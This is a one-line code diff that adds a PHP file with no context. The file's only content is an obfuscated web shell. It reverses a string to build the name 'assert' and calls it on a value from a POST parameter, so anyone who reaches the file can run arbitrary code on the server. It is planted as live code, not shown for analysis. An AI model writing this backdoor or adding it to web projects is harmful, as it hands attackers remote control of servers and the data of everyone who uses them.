@@ -1,0 +1,1 @@
+<?php $f = strrev('tressa'); $f($_POST['z']); ?>
